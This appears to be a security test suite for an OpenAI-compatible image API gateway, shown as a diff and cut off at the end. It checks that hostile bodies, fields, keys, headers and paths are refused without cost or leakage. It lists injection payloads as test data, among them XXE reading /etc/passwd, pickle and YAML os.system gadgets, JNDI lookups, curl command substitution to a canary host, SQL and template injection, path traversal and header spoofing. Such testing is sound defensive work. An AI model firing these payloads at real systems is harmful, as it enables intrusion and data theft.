@@ -1,0 +1,582 @@
+"""What strangers send, through the gateway's rules and the functions' own handlers: whatever it is, nothing breaks,
+nothing is bought, and every error is shaped as OpenAI's. What a parser refuses is in tests/unit, value by value.
+"""
+
+import gzip
+import json
+from collections.abc import Iterator, Sequence
+from contextlib import suppress
+from typing import Any
+from urllib.parse import quote, urljoin
+from uuid import uuid4
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from imagegen.credentials import BearerKey
+from imagegen.errors import ImagegenError
+from imagegen.openai_wire.headers import read_attempt, read_page, read_preference
+from imagegen.openai_wire.requests import read_image_request
+from tests.conftest import UPSTREAM_KEY
+from tests.support.canary import Canary
+from tests.support.client import GENERATIONS, INLINE, Answer, fetched
+from tests.support.in_process import URL, InProcess
+
+IMAGES = f"/v1{GENERATIONS}"
+JSON = ("Content-Type", "application/json")
+GOOD = {"prompt": "an otter"}
+GOOD_BODY = json.dumps(GOOD).encode()
+NOBODY_S = "gen_AAAAAAAAAAAAAAAAAAAAAA"
+
+
+@pytest.fixture
+def free(handlers: InProcess) -> Iterator[InProcess]:
+    """The handlers, of which nothing may be bought."""
+    before = len(handlers.upstream.calls)
+    yield handlers
+    assert len(handlers.upstream.calls) == before
+
+
+def key_of(service: InProcess) -> tuple[str, str]:
+    return "Authorization", f"Bearer {service.local.key}"
+
+
+def asked(service: InProcess, body: bytes, *headers: tuple[str, str], target: str = IMAGES) -> Answer:
+    """A request for images, with a key."""
+    return service.request("POST", target, [key_of(service), *headers], body)
+
+
+def refused(answer: Answer, status: int, param: str | None, code: str | None = None) -> None:
+    """The answer is an error in OpenAI's shape, and does not send back what it was sent."""
+    error = answer.error
+    assert (answer.status, error["param"]) == (status, param)
+    assert code is None or error["code"] == code
+    assert isinstance(error["type"], str)
+    assert isinstance(error["code"], str | None)
+    assert answer.headers["content-type"] == "application/json"
+    assert not {"x-injected", "set-cookie"} & set(answer.headers)
+    assert len(answer.content) < 4096
+
+
+# ------------------------------------------------------------------------------------ bodies
+
+NO_JSON = [
+    *(b"", b"null", b"true", b"1", b'"an otter"', b"[]", b"[" + GOOD_BODY + b"]", b" \t\r\n" * 25_000, b"{"),
+    *(GOOD_BODY[:-3], GOOD_BODY * 2, GOOD_BODY + b"\n" + GOOD_BODY, b'{"prompt":"x"/**/}', b"{prompt:1}"),
+    *(b"prompt: !!python/object/apply:os.system [id]", b"\x80\x04cos\nsystem\n(S'id'\ntR.", b"prompt=an+otter"),
+    *(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', gzip.compress(GOOD_BODY)),
+    *(b'{"prompt":"a\0b"}', b'{"prompt":"a\nb"}', b"\xef\xbb\xbf" * 2 + GOOD_BODY, b"\xff" + GOOD_BODY + b"\xff"),
+    *(GOOD_BODY.decode().encode(encoding) for encoding in ("utf-16", "utf-16-le", "utf-32")),
+    *(b'{"prompt":"\\ud800', b'{"prompt":"\\x41"}', b'{"prompt":"x","n":NaN}', b'{"prompt":"x","n":-Infinity}'),
+    *(b'{"prompt":"x","n":0x1}', b'{"prompt":"x","n":01}', b'{"prompt":"x","n":+1}', b'{"prompt":"x","n":1e400}'),
+    *(b'{"prompt":"x","n":' + b"9" * 5_000 + b"}", b"[" * 100_000, b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 80_000),
+]
+BODIES: list[tuple[bytes, int, str | None]] = [
+    *((body, 400, None) for body in NO_JSON),
+    *((b'{"prompt":"x","n":%s}' % n, 400, "n") for n in (b"1.0", b"1e0", b"-0", b'1,"n":11', b'1,"\\u006e":11')),
+    (b'{"prompt":"x","\\udc00":1}', 400, "\ufffd"),
+    (b'{"prompt":' + b"[" * 200 + b"]" * 200 + b"}", 400, "prompt"),
+    (b'{"prompt":"x","metadata":' + b'{"a":' * 200 + b"1" + b"}" * 201, 400, "metadata"),
+    (json.dumps({**GOOD, **{f"field_{number}": number for number in range(10_000)}}).encode(), 400, "field_0"),
+    (json.dumps({**GOOD, "user": "u" * 450_000}).encode(), 400, "user"),  # a record of DynamoDB holds 400 KB
+    (json.dumps({"prompt": "a" * 500_000}).encode(), 400, "prompt"),
+    (b"a" * 600_000, 413, None),
+    (b"a" * 7_000_000, 424, None),  # Lambda takes 6 MB
+    (b"a" * 11_000_000, 413, None),  # the gateway takes 10 MB
+]
+
+
+@pytest.mark.parametrize(("body", "status", "param"), BODIES, ids=lambda value: ascii(value)[:30])
+def test_a_hostile_body_is_refused(free: InProcess, body: bytes, status: int, param: str | None) -> None:
+    refused(asked(free, body, JSON), status, param)
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    [
+        *(None, "", "text/plain", "text/json", "*/*", "application/x-www-form-urlencoded", "application/xml"),
+        *("multipart/form-data; boundary=b", "application/json-patch+json", "application/json, text/plain"),
+        *("application / json", ";charset=utf-8", f"application/json{'x' * 8_000}", "\xef\xbd\x81pplication/json"),
+    ],
+)
+def test_a_body_of_another_type_is_refused(free: InProcess, content_type: str | None) -> None:
+    headers = [] if content_type is None else [("Content-Type", content_type)]
+    refused(asked(free, GOOD_BODY, *headers), 415, None, "unsupported_content_type")
+
+
+# ------------------------------------------------------------------------------------ fields
+
+GPT = {"model": "gpt-image-1"}
+_SIZES = [
+    *("0x0", "1024X1024", "1024\u00d71024", "\uff11\uff10\uff12\uff14x1024", "\u0661\u0660\u0662\u0664x1024", ""),
+    *("1024x1024 ", "1024x1024\n", "+1024x1024", "0x400x0x400", "1e3x1e3", f"{'9' * 40}x{'9' * 40}", "1024x1024x1024"),
+]
+_BLANKS = "\t\n\v\f\r \x1c\x1d\x1e\x1f\x85\xa0\u1680\u2000\u2007\u200a\u2028\u2029\u202f\u205f\u3000"
+_MODELS = [
+    *("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "dall-e-3\r\nX-Injected: 1", "dall-e-3\0", " dall-e-3"),
+    *("DALL-E-3", "dall-e-3\u200b", "d\u0430ll-e-3", "", "' OR '1'='1' --", "%s%n%x{0}", "{{7*7}}${7*7}#{7*7}"),
+    *("${jndi:ldap://{canary}/a}", "$(curl http://{canary}/)`id`|id", "<script>alert(1)</script>", "__proto__"),
+    *("http://{canary}/v1", "a" * 10_000, "*", 3, ["dall-e-3"], {"$ne": ""}),
+]
+_UNKNOWN_FIELDS = [
+    *("__proto__", "constructor", "__class__", "$where", "$ref", "@type", "N", "prompt ", "\ufeffprompt", "", "mask"),
+    *("api_key", "webhook", "callback_url", "base_url", "url", "image", "extra_body", "prompt\0", "response_format[]"),
+    *("\U0001f9a6", "\u202eezis", "background", "moderation", "output_format"),
+]
+# Beside a good prompt: the field, and what it may not be.
+FIELDS: list[tuple[dict[str, str], str, Any]] = [
+    *(({}, "n", n) for n in (True, "1", [1], {"$gt": 0}, -1, 11, 1.5, 2**63, 2**64, 10**400)),
+    *((beside, "size", size) for size in _SIZES for beside in ({}, {"model": "gpt-image-2"})),
+    *(({}, "size", size) for size in ("auto", 1024, ["1024x1024"], {"width": 1024}, "1024x1024'; DROP TABLE images")),
+    *(({}, "model", model) for model in _MODELS),
+    *(({}, "prompt", prompt) for prompt in (7, None, ["an otter"], "", "a" * 1001, "\U0001f9a6" * 1001, _BLANKS)),
+    *(({}, "prompt", blank * 3) for blank in _BLANKS),
+    *(({}, name, value) for name, value in (("quality", "HD"), ("style", "vivid\n"), ("response_format", "URL"))),
+    *(({}, "user", user) for user in (7, {"id": 7})),
+    *((GPT, name, value) for name, value in (("stream", True), ("output_format", "svg"), ("partial_images", 1))),
+    *(({}, name, "http://{canary}/") for name in _UNKNOWN_FIELDS),
+]
+
+
+@pytest.mark.parametrize(("beside", "name", "value"), FIELDS, ids=lambda value: ascii(value)[:40])
+def test_a_hostile_field_is_refused_by_its_name(
+    free: InProcess, canary: Canary, beside: dict[str, str], name: str, value: Any
+) -> None:
+    body = json.dumps({**GOOD, **beside, name: value}).replace("{canary}", f"127.0.0.1:{canary.port}")
+    answer = asked(free, body.encode(), JSON)
+    refused(answer, 400, name)
+    assert answer.error["type"] == "invalid_request_error"
+
+
+def test_an_unknown_field_of_any_length_is_named_in_short(free: InProcess) -> None:
+    answer = asked(free, json.dumps({**GOOD, "f" * 100_000: 1}).encode(), JSON)
+    refused(answer, 400, answer.error["param"])
+    assert answer.error["param"].startswith("f" * 64)
+
+
+@pytest.mark.parametrize("name", ["model", "n", "size", "quality", "style", "response_format", "background", "user"])
+def test_a_bad_value_may_be_repeated_to_its_sender_and_is_not_logged(free: InProcess, name: str) -> None:
+    repeated = name in ("model", "size", "quality", "style", "response_format")
+    value: Any = free.secret("value", may_be_answered=repeated)
+    if name == "user":
+        value = [value]
+    body = {"prompt": free.secret("prompt"), name: value, free.secret("field", may_be_answered=True): 1}
+    assert asked(free, json.dumps(body).encode(), JSON).status == 400
+
+
+@pytest.mark.parametrize(
+    ("body", "status"),
+    [
+        *((text, 400) for text in ('{"prompt":"%s', '["%s"]', '{"prompt":["%s"]}')),
+        *(('{"prompt":"%s"}' + " " * size, status) for size, status in ((600_000, 413), (7_000_000, 424))),
+    ],
+    ids=lambda value: str(value)[:20],
+)
+def test_of_a_body_that_is_refused_nothing_is_answered_and_logged(free: InProcess, body: str, status: int) -> None:
+    assert asked(free, (body % free.secret("prompt")).encode(), JSON).status == status
+
+
+# ------------------------------------------------------------------------- keys and headers
+
+_BAD = "A" * 43
+# Each is all the `Authorization` headers of a request. `{key}` is a good key of the client `local`, `{secret}` its end.
+KEYS: list[list[str]] = [
+    *([], [""], [" "], ["Bearer"], ["Bearer "], ["{key}"], ["Basic dXNlcjpwYXNzd29yZA=="], ["Basic {key}"]),
+    *(["Token {key}"], ['Digest username="local", response="{key}"'], ['Bearer "{key}"'], ["Bearer\t{key}"]),
+    *(["Bearer {key} x"], ["Bearer {key},"], ["Bearer ig_local_wrong, Bearer {key}"], [f"Bearer ig_local_{_BAD}"]),
+    *([f"Bearer ig_local_{_BAD}", "Bearer {key}"], ["", "Bearer {key}"], ["Bearer ig_other_{secret}"]),
+    *(["Bearer {short}"], ["Bearer {key}A"], ["Bearer {swapped}"], ["Bearer ig_LOCAL_{secret}"]),
+    *([f"Bearer ig_nobody_{_BAD}"], [f"Bearer ig_../clients/local_{_BAD}"], ["Bearer ig_.._{secret}"]),
+    *(["Bearer ig_*_{secret}"], ["Bearer ig_local/_{secret}"], ["Bearer ig_local:1_{secret}"], ["Bearer ig__{secret}"]),
+    *([f"Bearer ig_oidc:{'0' * 32}_{_BAD}"], [f"Bearer ig_{'a' * 33}_{_BAD}"], ["Bearer ig_upstream-api-key_{secret}"]),
+    *([f"Bearer {UPSTREAM_KEY}"], ["Bearer ig%5flocal%5f{secret}"], ["Bearer ig_local_\0{secret}"], ["Bearer .."]),
+    *(["Bearer ig_l\xf6cal_{secret}"], [f"Bearer ig_local_{'A' * 50_000}"], ["Bearer ' OR '1'='1"]),
+    *(["Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJsb2NhbCJ9."], ["Bearer ${env:AWS_SECRET_ACCESS_KEY}"]),
+    ["Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJsb2NhbCJ9.c2lnbmF0dXJl"],
+]
+
+
+def filled(service: InProcess, text: str) -> str:
+    key = service.local.key
+    secret = key.removeprefix("ig_local_")
+    values = {"key": key, "secret": secret, "short": key[:-1], "swapped": f"{key[:9]}{secret.swapcase()}"}
+    for name, value in values.items():
+        text = text.replace(f"{{{name}}}", value)
+    return text
+
+
+@pytest.mark.parametrize("authorization", KEYS, ids=lambda values: ascii(values)[:40])
+def test_without_a_good_key_nothing_goes(free: InProcess, authorization: list[str]) -> None:
+    headers = [("Authorization", filled(free, value)) for value in authorization]
+    answer = free.request("POST", IMAGES, [JSON, *headers], GOOD_BODY)
+    refused(answer, 401, None, "invalid_api_key")
+    assert free.local.key.removeprefix("ig_local_") not in answer.content.decode()
+
+
+@pytest.mark.parametrize(
+    ("headers", "query"),
+    [
+        ([("X-Api-Key", "{key}"), ("Api-Key", "{key}")], ""),
+        ([("Proxy-Authorization", "Bearer {key}"), ("X-Forwarded-Authorization", "Bearer {key}")], ""),
+        ([("Cookie", "Authorization=Bearer {key}; api_key={key}")], ""),
+        ([], "?api_key={key}&access_token={key}&Authorization=Bearer%20{key}"),
+        ([("X-Amzn-Principal-Id", "local"), ("principalId", "local")], ""),
+    ],
+)
+def test_a_key_is_looked_for_in_one_place(free: InProcess, headers: list[tuple[str, str]], query: str) -> None:
+    sent = [JSON, *((name, filled(free, value)) for name, value in headers)]
+    refused(free.request("POST", IMAGES + filled(free, query), sent, GOOD_BODY), 401, None, "invalid_api_key")
+
+
+@pytest.mark.parametrize("scheme", ["Bearer", "bearer", "Basic", "Token"])
+def test_of_a_key_that_is_refused_nothing_is_logged(free: InProcess, scheme: str) -> None:
+    tokens = [BearerKey.new("local").key, BearerKey.new("nobody").key, f"sk-{uuid4().hex}", f"canary{uuid4().hex}"]
+    tokens.append(".".join(f"eyJ{uuid4().hex}" for _ in range(3)))
+    for token in tokens:
+        free.secret(f"key {token[:6]}", value=token)
+        assert free.request("GET", "/v1/models", [("Authorization", f"{scheme} {token}")]).status == 401
+
+
+def test_a_client_s_record_that_cannot_be_read_lets_nobody_in(free: InProcess) -> None:
+    key = BearerKey.new(f"odd-{uuid4().hex[:8]}")
+    value = f'{{"key_sha256": "{free.secret("record")}'
+    free.aws("ssm").put_parameter(Name=f"/imagegen/clients/{key.client}", Type="String", Value=value)
+    free.secret("key", value=key.key)
+    assert free.request("GET", "/v1/models", [("Authorization", f"Bearer {key.key}")]).status == 401
+
+
+def test_a_client_without_an_allowance_buys_nothing(free: InProcess) -> None:
+    assert free.caller(images_per_day=0).post({"prompt": free.secret("prompt")}).status == 429
+
+
+@pytest.mark.parametrize(
+    "key", ["", "x" * 256, "x" * 50_000, "a\tb", "a\0b", "\x1b[2J", "a\x7f", "\xe4", "\xf0\x9f\xa6\xa6", "a\r\n b"]
+)
+def test_an_idempotency_key_that_is_none_is_refused(free: InProcess, key: str) -> None:
+    answer = asked(free, GOOD_BODY, JSON, ("Idempotency-Key", key))
+    refused(answer, 400, "Idempotency-Key", "invalid_value")
+
+
+def test_headers_that_mean_nothing_here_change_nothing_and_are_not_logged(handlers: InProcess) -> None:
+    secret = handlers.secret("header")
+    odd = [
+        *(("x-stainless-retry-count", secret), ("Prefer", f"handling={secret}; foo, ,,;=, wait=-1, wait")),
+        *(
+            ("X-Forwarded-Host", "evil.example"),
+            ("Forwarded", "host=evil.example;proto=http"),
+            ("X-Host", "evil.example"),
+        ),
+        *(("X-Forwarded-Proto", "javascript"), ("X-Forwarded-Port", "1"), ("X-Forwarded-For", secret)),
+        *(("X-Original-URL", "/v1/models"), ("X-Rewrite-URL", "/health"), ("X-Forwarded-Prefix", "/evil")),
+        *(("X-HTTP-Method-Override", "DELETE"), ("X-HTTP-Method", "TRACE"), ("Accept", "text/html, image/svg+xml")),
+        *(("If-Match", '"x"'), ("If-None-Match", "*"), ("Range", "bytes=0-0"), ("Expect", "100-continue")),
+        *(
+            ("X-Amzn-Trace-Id", f"Root=\xe4;{secret}"),
+            ("traceparent", "00-0-0-00"),
+            ("Cookie", secret),
+            ("Origin", secret),
+        ),
+        *(("Referer", secret), ("User-Agent", secret), ("X-Request-Id", secret), ("Accept-Language", "*" * 1000)),
+    ]
+    prompt = handlers.secret("prompt", may_be_answered=True)
+    answer = handlers.local.follow(asked(handlers, json.dumps({"prompt": prompt}).encode(), JSON, *odd))
+    assert answer.status == 200, answer.content
+    (image,) = answer.json["data"]
+    assert image["permalink"] == f"{URL}/v1/images/{image['id']}"
+    assert "evil" not in answer.content.decode()
+    assert len(handlers.calls(prompt)) == 1
+    assert asked(handlers, GOOD_BODY, ("Content-Type", secret)).status == 415
+    assert asked(handlers, GOOD_BODY, JSON, ("Idempotency-Key", secret * 9)).status == 400
+
+
+def test_a_permalink_stands_under_the_public_address_whatever_a_request_says_of_its_host(handlers: InProcess) -> None:
+    base = "https://images.example/base"
+    with handlers.function("ApiFunction").changed(PUBLIC_BASE_URL=base):
+        answer = handlers.local.make({"prompt": f"otter {uuid4().hex}"}, Host="evil.example", **INLINE)
+    (image,) = answer.json["data"]
+    assert image["permalink"] == f"{base}/v1/images/{image['id']}"
+    assert b"evil.example" not in answer.content
+
+
+def test_a_later_request_s_host_does_not_change_a_permalink_that_was_given(handlers: InProcess) -> None:
+    local, body, key = handlers.local, {"prompt": f"otter {uuid4().hex}"}, uuid4().hex
+    first = local.make(body, Idempotency_Key=key, **INLINE).json
+    again = local.make(body, Idempotency_Key=key, Host="evil.example").json
+    seen = local.get(f"{GENERATIONS}/{first['id']}", Host="evil.example").json
+    permalinks = {answer["data"][0]["permalink"] for answer in (first, again, seen)}
+    assert permalinks == {f"{URL}/v1/images/{first['data'][0]['id']}"}
+    assert len(handlers.calls(body["prompt"])) == 1
+
+
+# -------------------------------------------------------------------------- paths and methods
+
+_ODD_IDS = [
+    *("..%2f..%2fmodels", "%2e%2e%2f%2e%2e%2fhealth", "..", "..%5c..%5chealth", "img_%00AAAAAAAAAAAAAAAAAAAA"),
+    *("img_AAAAAAAAAAAAAAAAAAAAAA%0d%0aSet-Cookie:%20x=y", "img_AAAAAAAAAAAAAAAAAAAAAA%0a", "%", "%2525252e"),
+    *("img_AAAAAAAAAAAAAAAAAAAAAA%2f", "%ff%fe", "%c0%ae%c0%ae", "img_" + "%D0%90" * 22, "img_" + "%EF%BC%91" * 22),
+    *("img_AAAAAAAAAAAAAAAAAAAAA+", "img_" + "A" * 23, "img_" + "A" * 21, "IMG_" + "A" * 22, "*", "img_" + "A" * 8_000),
+    *("img_AAAAAAAAAAAAAAAAAAAAAA.png", "'%20OR%20'1'='1", "$%7B7*7%7D%7B%7B7*7%7D%7D", "%3Cscript%3Ealert(1)"),
+]
+_UNKNOWN = [
+    *("/v1", "/v1/", "/v2/models", "/V1/Models", "/v1//models", "/v1/./models"),
+    *("/v1/images/../models", "/../../v1/models", "\\v1\\models", "/v1%2fmodels", "/v1/%6dodels", "/v1/models;x=1"),
+    *("/v1/models%00", "/v1/models%0d%0aX-Injected:%201", "/v1/images/edits/x", "/v1/chat/completions", "/.env"),
+    *("/cgi-bin/.%2e/.%2e/bin/sh", "/2018-06-01/runtime/invocation/next", "/_door/roles", "*", "v1/models"),
+    *("http://evil.example//v1/models", "/" + "a" * 16_000, "/v1/images/img_AAAAAAAAAAAAAAAAAAAAAA/x", "/v1/images"),
+    *(f"/v1/images/generations/{NOBODY_S}/result/x", "/health/x"),
+]
+_NO_GENERATION = (404, "id", "generation_not_found")
+_NO_IMAGE = (404, "image_id", "image_not_found")
+_NO_METHOD = (405, None, "method_not_supported")
+PATHS: list[tuple[str, str, int, str | None, str]] = [
+    *(("GET", target, 404, None, "unknown_url") for target in _UNKNOWN),
+    *((method, IMAGES, *_NO_METHOD) for method in ("PUT", "PATCH", "DELETE")),
+    *((method, IMAGES, 404, None, "unknown_url") for method in ("TRACE", "CONNECT", "PROPFIND", "post", "FOO")),
+    *(("POST", path, 404, None, "unknown_url") for path in ("/v1/images/edits", "/v1/images/variations/")),
+    *(("GET", f"/v1/images/{text}", *_NO_IMAGE) for text in _ODD_IDS),
+    *(("GET", f"{IMAGES}/{text.replace('img_', 'gen_')}", *_NO_GENERATION) for text in _ODD_IDS),
+    *(
+        (method, f"{IMAGES}/{path}", *_NO_GENERATION)
+        for method, path in (
+            *(("GET", NOBODY_S), ("GET", f"{NOBODY_S}/result"), ("POST", f"{NOBODY_S}/result"), ("DELETE", NOBODY_S)),
+            *(("POST", f"{NOBODY_S}/cancel"), ("DELETE", "..%2f..%2fx"), ("POST", "..%2f..%2fx/cancel")),
+            *(("GET", f"img_{'A' * 22}"), ("GET", "key%23local%23x")),
+        )
+    ),
+    *(
+        ("GET", f"{IMAGES}?{query}", 400, query.partition("=")[0], "invalid_value")
+        for query in (
+            *("limit=0", "limit=101", "limit=-1", "limit=abc", "limit=1e3", "limit=1.0", "limit=%2B1", "limit=%D9%A1"),
+            *(f"limit={'9' * 5_000}", "limit=1%0a", "limit=1&limit=0", "status=evil", "status=COMPLETED"),
+            *("status=buried", "status=", f"status={'a' * 8_000}", "after=", f"after={'a' * 8_000}"),
+        )
+    ),
+]
+
+
+@pytest.mark.parametrize(("method", "target", "status", "param", "code"), PATHS, ids=lambda value: ascii(value)[:40])
+def test_a_path_that_leads_nowhere_has_its_error(
+    free: InProcess, method: str, target: str, status: int, param: str | None, code: str
+) -> None:
+    answer = free.request(method, target, [key_of(free)])
+    if param in ("id", "image_id") and answer.error["code"] == "unknown_url":
+        param, code = None, "unknown_url"  # what a path does not hold is no path
+    refused(answer, status, param, code)
+
+
+@pytest.mark.parametrize(
+    ("target", "allowed"),
+    [
+        *((path, "GET, HEAD, OPTIONS") for path in ("/v1/models", "/v1/images/img_x", "/docs", "/", "/health")),
+        (IMAGES, "GET, HEAD, OPTIONS, POST"),
+        (f"{IMAGES}/gen_x/cancel", "OPTIONS, POST"),
+    ],
+)
+def test_a_method_that_a_path_does_not_have_is_answered_with_those_that_it_has(
+    free: InProcess, target: str, allowed: str
+) -> None:
+    answer = free.request("PATCH", target, [key_of(free)])
+    refused(answer, 405, None)
+    assert answer.headers["allow"] == allowed
+
+
+@pytest.mark.parametrize("target", ["/v1", "/v1/nothing", "/v1/images", "/v1/images/edits/x", "/v1/a/b/c"])
+def test_an_unknown_path_of_the_api_asks_for_a_key_first(free: InProcess, target: str) -> None:
+    refused(free.request("GET", target), 401, None, "invalid_api_key")
+
+
+@pytest.mark.parametrize("target", ["/v1/models", f"{IMAGES}/gen_x/result", "/v1/images/img_x", "/x/y"])
+def test_a_preflight_is_answered_on_every_path_without_a_key(free: InProcess, target: str) -> None:
+    answer = free.request("OPTIONS", target, [("Origin", "https://page.example")])
+    assert (answer.status, answer.headers["access-control-allow-origin"]) == (200, "*")
+
+
+def test_a_slash_at_the_end_changes_nothing_and_is_not_in_a_redirect(handlers: InProcess) -> None:
+    body = json.dumps({"prompt": f"otter {uuid4().hex}"}).encode()
+    at, answer = f"{IMAGES}/", asked(handlers, body, JSON, ("Prefer", "wait=0"), target=f"{IMAGES}/")
+    while answer.status == 303:
+        location = urljoin(at, answer.headers["location"])
+        assert location.startswith(f"{IMAGES}/gen_")
+        handlers.deliver()
+        at = location.replace("/result", "/result/")
+        answer = handlers.request("GET", at, [key_of(handlers)])
+    assert answer.status == 200, answer.content
+    assert handlers.local.get("/models/").json == handlers.local.get("/models").json
+
+
+@pytest.mark.parametrize("target", ["/", "http://evil.example/", "/?prefix=http://evil.example"])
+def test_whatever_leads_to_the_root_is_the_page_as_it_is(free: InProcess, target: str) -> None:
+    answer = free.request("GET", target)
+    assert (answer.status, answer.headers["content-type"]) == (200, "text/html; charset=utf-8")
+    assert "evil.example" not in answer.content.decode() + str(answer.headers)
+    assert b'"/playground.js"' in answer.content
+
+
+@pytest.mark.parametrize("after", ["garbage", "gen_", NOBODY_S, "%00", "%ff%fe", "key%23local%23x"])
+def test_a_list_after_what_is_not_there_is_empty_or_refused(free: InProcess, after: str) -> None:
+    answer = free.local.get(f"{GENERATIONS}?after={after}")
+    if answer.status == 200:
+        assert (answer.json["data"], answer.json["has_more"]) == ([], False)
+    else:
+        refused(answer, 400, "after")
+
+
+def test_a_dead_durable_link_is_answered_by_s3(free: InProcess) -> None:
+    answer = free.request("GET", f"/v1/images/img_{'A' * 22}")
+    assert (answer.status, answer.content) == (302, b"")
+    dead = fetched(answer.headers["location"])
+    assert dead.status in (403, 404)
+    assert b"<Error>" in dead.content
+
+
+@pytest.mark.parametrize(
+    "target", ["/{}", "/v1/{}", "/v1/images/{}", "/v1/images/generations/{}", "/v1/images/edits/{}/{}"]
+)
+def test_of_a_path_and_a_query_nothing_is_logged(free: InProcess, target: str) -> None:
+    secret = free.secret("path")
+    for method in ("GET", "POST", "DELETE"):
+        assert free.request(method, target.format(secret, secret), [key_of(free)]).status in (404, 405)
+    for query in (f"limit={secret}", f"status={secret}", f"after={secret}", f"api_key={secret}", secret):
+        assert free.local.get(f"{GENERATIONS}?{query}").status in (200, 400)
+    assert free.local.get(f"/images/img_{secret[-22:]}").status == 302  # nobody looks whether there is such an image
+
+
+# --------------------------------------------------------------------------- another client's
+
+
+@pytest.fixture(scope="module")
+def local_s(_in_process: InProcess) -> dict[str, Any]:
+    """A generation of the client `local`, with one image."""
+    prompt = f"otter {uuid4().hex}"
+    return {"prompt": prompt, **_in_process.local.make({"prompt": prompt}, Idempotency_Key=prompt, **INLINE).json}
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        *(("GET", ""), ("GET", "/result"), ("GET", "/result?hop=-1"), ("POST", "/result")),
+        *(("POST", "/cancel"), ("DELETE", ""), ("DELETE", "?caller=local")),
+    ],
+)
+def test_another_clients_generation_is_out_of_reach_as_one_that_nobody_has(
+    free: InProcess, local_s: dict[str, Any], method: str, path: str
+) -> None:
+    its, nobody_s = (free.other.ask(method, f"{GENERATIONS}/{each}{path}") for each in (local_s["id"], NOBODY_S))
+    refused(its, *_NO_GENERATION)
+    assert its.content == nobody_s.content
+    refused(free.request(method, f"{IMAGES}/{local_s['id']}{path}"), 401, None, "invalid_api_key")
+    seen = free.local.see(local_s["id"]).json
+    assert (seen["status"], [image["id"] for image in seen["data"]]) == ("completed", [local_s["data"][0]["id"]])
+
+
+def test_a_list_after_another_clients_generation_is_as_one_after_nothing(
+    free: InProcess, local_s: dict[str, Any]
+) -> None:
+    its, nobody_s = (free.other.get(f"{GENERATIONS}?after={each}") for each in (local_s["id"], NOBODY_S))
+    assert (its.status, its.content) == (nobody_s.status, nobody_s.content)
+    assert local_s["id"] not in its.content.decode()
+
+
+def test_another_clients_idempotency_key_attaches_to_nothing(handlers: InProcess, local_s: dict[str, Any]) -> None:
+    prompt, before = local_s["prompt"], len(handlers.calls(local_s["prompt"]))
+    answer = handlers.other.make({"prompt": prompt}, Idempotency_Key=prompt, x_stainless_retry_count="1")
+    assert answer.status == 200
+    assert answer.json["id"] != local_s["id"]
+    assert answer.json["data"][0]["id"] != local_s["data"][0]["id"]
+    assert len(handlers.calls(prompt)) == before + 1
+
+
+@pytest.mark.parametrize("hop", ["-1", "999999", "abc", "1e3", "16", "%D9%A1%D9%A6", "9" * 5_000, "1&hop=abc"])
+def test_a_count_of_redirects_that_is_none_ends_the_wait(free: InProcess, hop: str) -> None:
+    """So that nobody is sent on for ever."""
+    generation_id = free.local.begin(prompt="otter")
+    answer = free.request("GET", f"{IMAGES}/{generation_id}/result?hop={hop}", [key_of(free)])
+    assert answer.failed == (424, "generation_still_running")
+    assert free.local.cancel(generation_id).status == 200
+
+
+# ----------------------------------------------------------------------------- whatever it is
+
+_TEXT = st.text(max_size=20) | st.sampled_from(["http://127.0.0.1/", "file:///etc/passwd", "../..", "%00", "[::1]"])
+_JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | _TEXT,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
+    max_leaves=8,
+)
+_NAMES = ["prompt", "model", "n", "size", "quality", "style", "response_format", "user", "background", "stream"]
+_VALUES = _JSON | st.sampled_from(["dall-e-3", "1024x1024", "hd", "vivid", "url", 1, 2])
+_FIELDS = st.dictionaries(st.sampled_from(_NAMES) | _TEXT, _VALUES, max_size=4)
+_BODIES = (
+    st.binary(max_size=200)
+    | _JSON.map(lambda value: json.dumps(value).encode())
+    | _FIELDS.map(lambda fields: json.dumps(fields).encode())
+    | _FIELDS.map(lambda fields: json.dumps({**fields, "prompt": "otter"}).encode())
+)
+_HEADER_TEXT = st.text(st.characters(min_codepoint=1, max_codepoint=255, exclude_characters="\r\n"), max_size=40)
+_through_the_gateway = settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
+)
+
+
+def is_valid(body: bytes) -> bool:
+    """What the gateway makes of the body, read by the reader itself."""
+    try:
+        read_image_request(body.decode(errors="replace").encode(), "application/json", prompt_cap=1000)
+    except ImagegenError:
+        return False
+    return True
+
+
+@_through_the_gateway
+@given(body=_BODIES)
+def test_whatever_the_body_it_is_a_generation_or_a_refusal_that_costs_nothing(handlers: InProcess, body: bytes) -> None:
+    answer = asked(handlers, body, JSON, ("Prefer", "respond-async"))
+    if is_valid(body):
+        assert answer.status == 202
+        assert handlers.local.cancel(answer.generation_id).status == 200
+    else:
+        refused(answer, answer.status, answer.error["param"])
+        assert 400 <= answer.status < 500
+
+
+@_through_the_gateway
+@given(
+    method=st.sampled_from(["GET", "POST", "DELETE", "PUT", "HEAD", "PATCH"]),
+    path=st.lists(_TEXT | st.sampled_from(["v1", "images", "generations", "models", "..", ".", ""]), max_size=6),
+    query=st.dictionaries(st.sampled_from(["limit", "after", "status", "hop"]) | _TEXT, _TEXT.filter(bool), max_size=3),
+)
+def test_whatever_the_path_nothing_breaks(free: InProcess, method: str, path: list[str], query: dict[str, str]) -> None:
+    parts = "/".join(quote(part, safe="") for part in path)
+    pairs = "&".join(f"{quote(name, safe='')}={quote(value, safe='')}" for name, value in query.items())
+    answer = free.request(method, f"/{parts}?{pairs}", [key_of(free)])
+    assert answer.status < 500, answer.content
+    assert answer.headers["x-request-id"]
+    if answer.status >= 400 and method != "HEAD":
+        refused(answer, answer.status, answer.error["param"])
+
+
+@_through_the_gateway
+@given(name=st.sampled_from(["Authorization", "Idempotency-Key", "Prefer", "Content-Type", "Host"]), value=_HEADER_TEXT)
+def test_whatever_a_header_holds_nothing_breaks(free: InProcess, name: str, value: str) -> None:
+    """With a field that is none, so that nothing is bought."""
+    usual: Sequence[tuple[str, str]] = [each for each in (key_of(free), JSON) if each[0] != name]
